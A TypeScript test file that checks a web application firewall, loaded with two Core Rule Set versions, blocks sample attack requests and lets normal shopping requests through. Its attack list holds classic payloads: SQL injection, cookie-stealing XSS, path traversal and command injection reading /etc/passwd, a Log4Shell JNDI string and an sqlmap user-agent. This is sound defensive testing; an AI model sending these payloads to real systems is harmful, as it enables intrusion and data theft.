import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { test } from 'node:test'
import { createWaf } from '#inspectors/waf/waf.ts'
import { idsOf, send } from './waf-of.ts'

const ROOT = `${import.meta.dirname}/../../..`

const SETS = [
  {
    name: 'CRS 3.3 of Debian',
    setup: '/etc/modsecurity/crs/crs-setup.conf',
    rules: '/usr/share/modsecurity-crs/rules',
    least: 600,
  },
  {
    name: 'CRS 4',
    setup: `${ROOT}/../shared/data/crs/crs-setup.conf.example`,
    rules: `${ROOT}/../shared/data/crs/rules`,
    least: 600,
  },
]

const BROWSER = [
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Accept: text/html,application/xhtml+xml,*/*;q=0.8',
  'Accept-Language: en-US,en;q=0.5',
]
const FORM = [...BROWSER, 'Content-Type: application/x-www-form-urlencoded']
const JSON_BODY = [...BROWSER, 'Content-Type: application/json']

const ATTACKS: readonly (readonly [string, string, readonly string[], string])[] = [
  [
    'SQL injection',
    "GET /item?id=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
    BROWSER,
    '',
  ],
  ['SQL injection in a form', 'POST /login', FORM, "user=admin'+OR+'1'%3D'1'--+&password=x"],
  ['XSS', 'GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', BROWSER, ''],
  ['XSS in JSON', 'POST /api', JSON_BODY, '{"bio":{"text":"<img src=x onerror=alert(1)>"}}'],
  ['path traversal', 'GET /download?file=../../../../etc/passwd', BROWSER, ''],
  ['command injection', 'GET /ping?host=127.0.0.1;cat%20/etc/passwd', BROWSER, ''],
  ['scanner', 'GET /', ['User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)', 'Accept: */*'], ''],
  [
    'Log4Shell in an argument',
    'GET /?q=%24%7Bjndi:ldap://x.example/java.lang.Runtime%7D',
    BROWSER,
    '',
  ],
]

const BENIGN: readonly (readonly [string, readonly string[], string])[] = [
  ['GET /', BROWSER, ''],
  ['GET /item?id=42&colour=blue&page=2', [...BROWSER, 'Cookie: session=8f14e45f; theme=dark'], ''],
  ['POST /contact', FORM, 'name=Jane+Doe&email=jane%40example.com&text=When+do+you+open%3F'],
  ['POST /api', JSON_BODY, '{"items":[{"sku":"A-1","quantity":2}],"note":"leave at the door"}'],
]

for (const { name, setup, rules, least } of SETS) {
  const skip = !existsSync(setup) || !existsSync(rules) ? `${rules} is not on this machine` : false
  test(
    `${name} loads, blocks the basics at paranoia 1 and lets shoppers through`,
    { skip },
    (t) => {
      const waf = createWaf({
        mode: 'block',
        rulePaths: [rules],
        setupPaths: [setup],
        settings: { paranoia: 1 },
      })
      assert.ok(waf.ruleCount >= least, `${waf.ruleCount} rules`)
      for (const [attack, line, headers, body] of ATTACKS) {
        const result = send(waf, line, headers, body)
        assert.equal(result.status, 403, `${attack}: ${idsOf(result).join()}`)
        assert.ok(idsOf(result).includes(949_110), `${attack}: ${idsOf(result).join()}`)
      }
      for (const [line, headers, body] of BENIGN) {
        const result = send(waf, line, headers, body)
        assert.equal(result.status, 200, `${line}: ${idsOf(result).join()}`)
        assert.deepEqual(idsOf(result), [], line)
      }
      t.diagnostic(`${waf.ruleCount} rules, ${waf.warnings.length} warnings`)
    },
  )
}
